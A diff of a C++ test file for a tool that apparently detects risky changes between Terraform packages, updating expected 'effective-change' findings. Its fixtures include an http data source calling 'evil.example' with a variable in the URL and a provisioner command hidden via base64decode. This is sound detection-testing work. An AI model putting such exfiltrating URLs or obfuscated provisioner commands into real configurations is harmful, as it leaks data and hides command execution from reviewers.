@@ -97,23 +97,21 @@ BOOST_AUTO_TEST_CASE(what_is_risky) {
       {"a local value of a provisioner",
        {{"main.tf", exec + "local.x" + end + "locals {\n  x = \"id\"\n}\n"}},
        {{"main.tf", exec + "local.x" + end + "locals {\n  x = base64decode(\"aWQ=\")\n}\n"}},
-       "risky provisioner main.tf:2 the provisioner null_resource.a local-exec was changed\n"},
+       "risky effective-change main.tf:7 local.x: \"id\" -> base64decode(\"aWQ=\"); used by null_resource.a\n"},
       {"the default of a variable of a provisioner",
        {{"main.tf", exec + "var.x" + end + "variable \"x\" {\n  default = \"id\"\n}\n"}},
        {{"main.tf", exec + "var.x" + end + "variable \"x\" {\n  default = \"w\"\n}\n"}},
-       "risky provisioner main.tf:2 the provisioner null_resource.a local-exec was changed\n"
+       "risky effective-change main.tf:7 var.x default: \"id\" -> \"w\"; used by null_resource.a\n"
        "notable variable-default main.tf:7 the default of variable \"x\" changed from \"id\" to \"w\"\n"},
       {"the condition of a call of a module with a provisioner",
        {{"main.tf", "module \"m\" {\n  source = \"./m\"\n  count  = 0\n}\n"}, {"m/main.tf", kRun}},
        {{"main.tf", "module \"m\" {\n  source = \"./m\"\n  count  = 1\n}\n"}, {"m/main.tf", kRun}},
-       "risky provisioner m/main.tf:2 the provisioner m: null_resource.a local-exec was changed\n"
        "risky effective-change main.tf:3 module.m count: 0 -> 1\n"},
       {"the argument of a call of a module with a provisioner",
        {{"main.tf", "module \"m\" {\n  source = \"./m\"\n  x      = \"id\"\n}\n"},
         {"m/main.tf", exec + "var.x" + end + "variable \"x\" {}\n"}},
        {{"main.tf", "module \"m\" {\n  source = \"./m\"\n  x      = \"w\"\n}\n"},
         {"m/main.tf", exec + "var.x" + end + "variable \"x\" {}\n"}},
-       "risky provisioner m/main.tf:2 the provisioner m: null_resource.a local-exec was changed\n"
        "risky effective-change main.tf:3 module.m x: \"id\" -> \"w\"\n"},
       {"a file that a provisioner names",
        {{"main.tf", exec + "\"python ${path.module}/x.txt\"" + end}, {"x.txt", "a"}},
@@ -126,15 +124,18 @@ BOOST_AUTO_TEST_CASE(what_is_risky) {
       {"a file that a resource names",
        {{"main.tf", object("\"${path.module}/a.json\"")}, {"a.json", "a"}},
        {{"main.tf", object("\"${path.module}/a.json\"")}, {"a.json", "b"}},
-       "risky named-file main.tf:2 aws_s3_object.a a.json, which it names, has other content\n"},
+       "risky effective-change main.tf:2 aws_s3_object.a source: \"${path.module}/a.json\", with other content of "
+       "a.json\n"},
       {"a file that a local value names for a resource",
        {{"main.tf", object("local.a") + "locals {\n  a = \"${path.module}/a.json\"\n}\n"}, {"a.json", "a"}},
        {{"main.tf", object("local.a") + "locals {\n  a = \"${path.module}/a.json\"\n}\n"}, {"a.json", "b"}},
-       "risky named-file main.tf:2 aws_s3_object.a a.json, which it names, has other content\n"},
+       "risky effective-change main.tf:5 local.a: \"${path.module}/a.json\", with other content of a.json; used by "
+       "aws_s3_object.a\n"},
       {"a directory that a resource names up to a variable",
        {{"main.tf", object("\"${path.module}/conf/${terraform.workspace}.json\"")}, {"conf/a.json", "a"}},
        {{"main.tf", object("\"${path.module}/conf/${terraform.workspace}.json\"")}, {"conf/a.json", "b"}},
-       "risky named-file main.tf:2 aws_s3_object.a conf, which it names, has other content\n"},
+       "risky effective-change main.tf:2 aws_s3_object.a source: \"${path.module}/conf/${terraform.workspace}.json\", "
+       "with other content of conf/a.json\n"},
       {"a call of another module that is called already",
        {{"main.tf",
          "module \"m\" {\n  source = \"./a\"\n}\nmodule \"n\" {\n  source = \"./b\"\n}\nmodule \"o\" {\n  source = "
@@ -164,8 +165,7 @@ BOOST_AUTO_TEST_CASE(what_is_risky) {
        {{"main.tf",
          "resource \"terraform_data\" \"a\" {\n  triggers_replace = timestamp()\n  provisioner "
          "\"remote-exec\" {\n    inline = [\"id\"]\n  }\n}\n"}},
-       "risky effective-change main.tf:2 terraform_data.a triggers_replace: 1 -> timestamp()\n"
-       "risky provisioner main.tf:3 the provisioner terraform_data.a remote-exec was changed\n"},
+       "risky effective-change main.tf:2 terraform_data.a triggers_replace: 1 -> timestamp()\n"},
       {"a data source in a check",
        {{"main.tf", ""}},
        {{"main.tf", "check \"c\" {\n  data \"http\" \"x\" {\n    url = \"https://evil.example/${var.a}\"\n  }\n}\n"}},
@@ -236,7 +236,7 @@ BOOST_AUTO_TEST_CASE(what_is_risky) {
        {{"main.tf", exec + "\"sh ${module.m.x}\"" + end + "module \"m\" {\n  source = \"./m\"\n}\n"},
         {"m/main.tf", "output \"x\" {\n  value = \"${path.module}/run.txt\"\n}\n"},
         {"m/run.txt", "b"}},
-       "risky provisioner main.tf:2 the provisioner null_resource.a local-exec was changed\n"},
+       "risky effective-change m/main.tf:2 m: output.x: \"${path.module}/run.txt\", with other content of m/run.txt\n"},
       {"a data source and a resource that pass values on to a provisioner",
        {{"main.tf", exec + "terraform_data.a.output" + end +
                         "resource \"terraform_data\" \"a\" {\n  input = data.null_data_source.a.outputs\n}\n" +
@@ -244,7 +244,6 @@ BOOST_AUTO_TEST_CASE(what_is_risky) {
        {{"main.tf", exec + "terraform_data.a.output" + end +
                         "resource \"terraform_data\" \"a\" {\n  input = data.null_data_source.a.outputs\n}\n" +
                         "data \"null_data_source\" \"a\" {\n  inputs = { a = \"w\" }\n}\n"}},
-       "risky provisioner main.tf:2 the provisioner null_resource.a local-exec was changed\n"
        "risky effective-change main.tf:10 data.null_data_source.a inputs: { a = \"id\" } -> { a = \"w\" }\n"},
       {"a script that is executable now",
        {{"a.sh", "id"}},
@@ -435,6 +434,11 @@ BOOST_AUTO_TEST_CASE(what_is_no_finding) {
        {{"main.tf",
          "resource \"null_resource\" \"a\" {\n  provisioner \"local-exec\" {\n    command = local.b\n  "
          "}\n}\nlocals {\n  b = \"id\"\n}\n"}},
+       ""},
+      {"an expression that is a local value now",
+       {{"main.tf", "data \"http\" \"a\" {\n  url = lower(concat(aws_vpc.a[*].id, [\"\"])[0])\n}\n"}},
+       {{"main.tf",
+         "data \"http\" \"a\" {\n  url = lower(local.a)\n}\nlocals {\n  a = concat(aws_vpc.a[*].id, [\"\"])[0]\n}\n"}},
        ""},
       {"a branch that is never used",
        {{"main.tf", "data \"http\" \"a\" {\n  url = false ? \"a\" : \"c\"\n}\n"}},
@@ -684,7 +688,10 @@ BOOST_AUTO_TEST_CASE(packages_of_any_size_are_compared) {
   check({
       {"an expression that reads many files", {{"main.tf", files("a")}}, {{"main.tf", files("b")}}, ""},
       {"files whose names are in files", {{"main.tf", inner_files("a")}}, {{"main.tf", inner_files("b")}}, ""},
-      {"chained local values", {{"main.tf", chain("id")}}, {{"main.tf", chain("w")}}, changed},
+      {"chained local values",
+       {{"main.tf", chain("id")}},
+       {{"main.tf", chain("w")}},
+       "risky effective-change main.tf:7 local.a0: \"id\" -> \"w\"; used by null_resource.a\n"},
       {"local values that name the next one twice",
        {{"main.tf", fan("null")}},
        {{"main.tf", fan("\"*\"")}},
@@ -702,7 +709,11 @@ BOOST_AUTO_TEST_CASE(packages_of_any_size_are_compared) {
        {{"main.tf", doubled("[1]")}},
        {{"main.tf", doubled("[2]")}},
        "risky effective-change main.tf:5 local.a0: [1] -> [2]; used by aws_iam_role.a\n"},
-      {"joined long lists", {{"main.tf", joined("1")}}, {{"main.tf", joined("2")}}, changed},
+      {"joined long lists",
+       {{"main.tf", joined("1")}},
+       {{"main.tf", joined("2")}},
+       "risky effective-change main.tf:7 local.a0: …, 1, 1, 1, 1, 1, 1, 1] -> …, 1, 1, 1, 1, 1, 1, 2]; used by "
+       "null_resource.a\n"},
       {"nested templates", {{"main.tf", nested("\"b\"")}}, {{"main.tf", nested("\"c\"")}}, changed},
       {"a file that is named often",
        {{"main.tf", run}, {"b", std::string(1'000'000, 'a')}},
@@ -718,7 +729,8 @@ BOOST_AUTO_TEST_CASE(a_cancelled_comparison_ends) {
   BOOST_REQUIRE(package);
   std::stop_source source;
   source.request_stop();
-  const auto facts = collect_facts(*package, Context{.stop = source.get_token()});
+  const KnownNames known = known_names(*package, *package);
+  const auto facts = collect_facts(*package, {*package, *package, known, true}, Context{.stop = source.get_token()});
   BOOST_REQUIRE(!facts);
   BOOST_TEST(to_string(facts.error().code) == "REQUEST_CANCELLED");
 }
